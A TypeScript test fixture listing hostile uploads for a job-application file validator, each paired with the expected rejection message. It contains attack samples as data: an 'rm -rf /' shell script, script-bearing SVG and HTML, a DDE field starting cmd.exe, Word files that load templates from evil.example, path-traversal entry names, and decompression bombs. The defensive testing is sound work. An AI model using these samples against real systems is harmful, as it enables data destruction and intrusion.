import {
  cutJpegWithThumbnail,
  denseDocx,
  docWith,
  docWithMacros,
  docxOfBody,
  docxWith,
  docxOfTypes,
  docxThatFetches,
  docxWithMacros,
  docxWithRenamedMacros,
  fieldOf,
  jpegOfSize,
  pngOfSize,
  wideDoc,
  hugeDocx,
  lyingDocx,
  macroEnabledDocx,
  macroEnabledDocxInUtf16,
  overlappingDocx,
  spoiledDocx,
  wordDoc,
} from '@test/support/badFiles'
import { docBytes, docxBytes, fileOf, jpegBytes, pdfBytes, pngBytes, zipBytes } from '@test/support/builders'
import {
  type Hostile,
  APPLICATION_WARNING,
  notReal,
  application,
  resume,
  internship,
  enquiry,
} from './request'

const bomb = (name: string) =>
  `${name} is too large when unpacked. Please save it again and choose the new file.`

const remote = (name: string) =>
  `${name} loads a template or an object from elsewhere. Please save it without that and choose it again.`

const macros = (name: string) => `${name} contains macros. Please save it without them and choose it again.`

const incomplete = (name: string) => `${name} is not complete. Please choose it again.`
const PHOTO_WARNING = 'Please select a .jpg or .png file. Other types of files are not allowed.'
const ATTACHMENT_WARNING = 'Please select a .pdf, .doc or .docx file. Other types of files are not allowed.'
const WORD_WARNING = 'Please select .doc file. Other type of files are not allowed.'

export const PROGRAM = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
const ELF = Buffer.from('7f454c4602010100', 'hex')
const PAGE = Buffer.from('<!doctype html><script>alert(1)</script>')
const SCRIPT = Buffer.from('#!/bin/sh\nrm -rf /\n')
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
const SPREADSHEET = zipBytes({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' })
const JAVA = zipBytes({ 'META-INF/MANIFEST.MF': 'Main-Class: X', 'X.class': 'x' })

const wrongContents: [string, Buffer][] = [
  ['a program', PROGRAM],
  ['a program of Linux', ELF],
  ['a script', SCRIPT],
  ['a drawing', SVG],
  ['a PDF behind a space', Buffer.concat([Buffer.from(' '), pdfBytes()])],
]

/** Word opens them; the staff should not have to guess what they are. */
const otherFormats: [string, Buffer][] = [
  ['a .docx', docxBytes()],
  ['a .doc', docBytes()],
  ['rich text', Buffer.from('{\\rtf1 hello}')],
  ['a web page', PAGE],
  ['a web page of Word', Buffer.from('\uFEFF<html xmlns:w="urn:schemas-microsoft-com:office:word"><p>hello')],
  ['a page as a mail', Buffer.from('MIME-Version: 1.0\r\n')],
  [
    'an OpenDocument',
    zipBytes({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' }),
  ],
]

const noise = Buffer.concat([docBytes().subarray(0, 8), Buffer.alloc(20_000, 7)])

export const files: Hostile[] = [
  ...wrongContents.flatMap(([what, bytes]) => [
    application(
      `${what} named .docx`,
      { resume: fileOf(bytes, 'cv.docx') },
      notReal('cv.docx', APPLICATION_WARNING),
    ),
    resume(`${what} named .doc`, { resume: fileOf(bytes, 'CV.DOC') }, notReal('CV.DOC', WORD_WARNING)),
    enquiry(
      `${what} named .pdf`,
      { company_attachment: fileOf(bytes, 'a.pdf') },
      notReal('a.pdf', ATTACHMENT_WARNING),
    ),
    internship(`${what} named .png`, { photo: fileOf(bytes, 'me.png') }, notReal('me.png', PHOTO_WARNING)),
  ]),
  ...[
    'cv.exe',
    'cv.docm',
    'cv.doc.js',
    'cv.docx.',
    'cv',
    '.doc/x',
    'cv.dοc',
    'cv.exe\0.doc.exe',
    'cv.docx:stream',
    'cv．docx',
    'cv%2edocx',
    'cv.docx. .',
  ].map((name) =>
    application(
      `the name ${JSON.stringify(name)}`,
      { resume: fileOf(docBytes(), name) },
      APPLICATION_WARNING,
    ),
  ),
  application(
    'a spreadsheet named .docx',
    { resume: fileOf(SPREADSHEET, 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  application(
    'a Java archive named .docx',
    { resume: fileOf(JAVA, 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  ...otherFormats.flatMap(([what, bytes]) =>
    ['cv.doc', 'cv.docx']
      .filter((name) => !what.endsWith(name.slice(2)))
      .map((name) =>
        application(
          `${what} named ${name}`,
          { resume: fileOf(bytes, name) },
          `${name} is not a real ${name.slice(2)} file. Save it as a Word document (.docx).`,
        ),
      ),
  ),
  ...[docBytes().subarray(0, 8), docBytes().subarray(0, 511), noise].map((bytes) =>
    resume(
      `a .doc of a signature and ${bytes.length} bytes`,
      { resume: fileOf(bytes, 'cv.doc') },
      'cv.doc is damaged. This file cannot be opened by Word.',
    ),
  ),
  enquiry(
    'a web page named .pdf',
    { company_attachment: fileOf(PAGE, 'a.pdf') },
    notReal('a.pdf', ATTACHMENT_WARNING),
  ),
  internship('a web page named .png', { photo: fileOf(PAGE, 'me.png') }, notReal('me.png', PHOTO_WARNING)),
  resume(
    'a field that starts a program',
    { resume: fileOf(docxOfBody(fieldOf('DDE', 'AUTO c:\\windows\\system32\\cmd.exe')), 'cv.docx') },
    'cv.docx contains a field that starts another program. Please save it without that and choose it again.',
  ),
  application(
    'a document with a password',
    { resume: fileOf(docWith({ name: 'EncryptedPackage', content: Buffer.alloc(9) }), 'cv.docx') },
    'cv.docx is locked with a password. Please save it without the password and choose it again.',
  ),
  application('a .png named .jpg', { photo: fileOf(pngBytes(), 'me.jpg') }, notReal('me.jpg', PHOTO_WARNING)),
  application('a drawing as a photo', { photo: fileOf(SVG, 'me.svg') }, PHOTO_WARNING),
  application('macros by type', { resume: fileOf(macroEnabledDocx(), 'cv.docx') }, macros('cv.docx')),
  application(
    'macros by type in UTF-16',
    { resume: fileOf(macroEnabledDocxInUtf16(), 'cv.docx') },
    macros('cv.docx'),
  ),
  resume('macros in a part', { resume: fileOf(docxWithMacros(), 'cv.docx') }, macros('cv.docx')),
  internship('macros in a .doc', { resume: fileOf(docWithMacros(), 'cv.doc') }, macros('cv.doc')),
  enquiry(
    'macros in an attachment',
    { company_attachment: fileOf(docxWithMacros(), 'a.docx') },
    macros('a.docx'),
  ),
  application('a dense archive', { resume: fileOf(denseDocx(), 'cv.docx') }, bomb('cv.docx')),
  application('an archive of a gigabyte', { resume: fileOf(hugeDocx(), 'cv.docx') }, bomb('cv.docx')),
  application(
    'an archive of shared bytes',
    { resume: fileOf(overlappingDocx(), 'cv.docx') },
    bomb('cv.docx'),
  ),
  application(
    'an archive that lies about its sizes',
    { resume: fileOf(lyingDocx(), 'cv.docx') },
    bomb('cv.docx'),
  ),
  resume('an archive written over', { resume: fileOf(spoiledDocx(), 'cv.docx') }, incomplete('cv.docx')),
  internship(
    'macros in numbers for letters',
    { resume: fileOf(docxOfTypes('application/vnd.ms-word.document.macro&#69;nabled.main+xml'), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a template of the internet',
    { resume: fileOf(docxThatFetches('attachedTemplate', 'https://evil.example/a.dotm'), 'cv.docx') },
    remote('cv.docx'),
  ),
  enquiry(
    'an object of the internet',
    { company_attachment: fileOf(docxThatFetches('oleObject', 'mhtml:http://evil.example/a!x'), 'a.docx') },
    remote('a.docx'),
  ),
  resume(
    'a path out of the archive',
    {
      resume: fileOf(docxWith({ name: '../../evil.exe', content: Buffer.from('x') }), 'cv.docx'),
    },
    notReal('cv.docx', WORD_WARNING),
  ),
  resume('half a .doc', { resume: fileOf(wordDoc().subarray(0, 4000), 'cv.doc') }, incomplete('cv.doc')),
  application(
    'a workbook named .doc',
    { resume: fileOf(wordDoc('Workbook'), 'cv.doc') },
    notReal('cv.doc', APPLICATION_WARNING),
  ),
  internship(
    'a GIF named .jpg',
    { photo: fileOf(Buffer.from('GIF89a<script>'), 'me.jpg') },
    notReal('me.jpg', PHOTO_WARNING),
  ),
  application(
    'macros under another name',
    { resume: fileOf(docxWithRenamedMacros(), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a relation to macros',
    { resume: fileOf(docxThatFetches('vbaProject', 'settings.dat'), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a workbook with macros within',
    { resume: fileOf(docxWith({ name: 'word/embeddings/a.XLSM', content: SCRIPT }), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a program within',
    { resume: fileOf(docxWith({ name: 'word/embeddings/a.exe', content: PROGRAM }), 'cv.docx') },
    'cv.docx contains a program or another file. Please save it without that and choose it again.',
  ),
  ...['/etc/passwd', 'word/a\0.xml'].map((name) =>
    application(
      `a part named ${JSON.stringify(name)}`,
      { resume: fileOf(docxWith({ name, content: SCRIPT }), 'cv.docx') },
      notReal('cv.docx', APPLICATION_WARNING),
    ),
  ),
  application(
    'an installer of wide sectors named .doc',
    { resume: fileOf(wideDoc('Property'), 'cv.doc') },
    notReal('cv.doc', APPLICATION_WARNING),
  ),
  application(
    'a picture of ten milliard points',
    { photo: fileOf(pngOfSize(100_000, 100_000), 'me.png') },
    bomb('me.png'),
  ),
  application('a picture of nothing', { photo: fileOf(pngOfSize(0, 9), 'me.png') }, incomplete('me.png')),
  application(
    'a photo of four milliard points',
    { photo: fileOf(jpegOfSize(65_535, 65_535), 'me.jpg') },
    bomb('me.jpg'),
  ),
  application(
    'one byte',
    { resume: fileOf(Buffer.from('P'), 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  application(
    'a resume of one byte too many',
    { resume: fileOf(docBytes(5 * 1024 * 1024 + 1), 'cv.doc') },
    'cv.doc is too large. The limit is 5 MB.',
    413,
  ),
  application(
    'a locked archive',
    { resume: fileOf(docxWith({ name: 'x', content: SCRIPT, says: { flags: 1 } }), 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  application(
    'half a .docx',
    { resume: fileOf(docxBytes().subarray(0, 600), 'cv.docx') },
    incomplete('cv.docx'),
  ),
  enquiry(
    'half a PDF',
    { company_attachment: fileOf(pdfBytes(20_000).subarray(0, 9000), 'a.pdf') },
    incomplete('a.pdf'),
  ),
  internship(
    'half a photo',
    { photo: fileOf(jpegBytes(9000).subarray(0, 4000), 'me.jpg') },
    incomplete('me.jpg'),
  ),
  resume(
    'half a photo with a whole small one',
    { photo: fileOf(cutJpegWithThumbnail(), 'me.jpeg') },
    incomplete('me.jpeg'),
  ),
  resume('half a picture', { photo: fileOf(pngBytes().subarray(0, 40), 'me.png') }, incomplete('me.png')),
  application('an empty resume', { resume: new File([], 'cv.doc') }, 'cv.doc is empty.'),
  enquiry('an empty attachment', { company_attachment: new File([], 'a.pdf') }, 'a.pdf is empty.'),
  resume('an empty photo', { photo: new File([], 'me.png') }, 'me.png is empty.'),
  resume(
    'a resume of six megabytes',
    { resume: fileOf(docBytes(6_000_000), 'cv.doc') },
    'cv.doc is too large. The limit is 5 MB.',
    413,
  ),
]
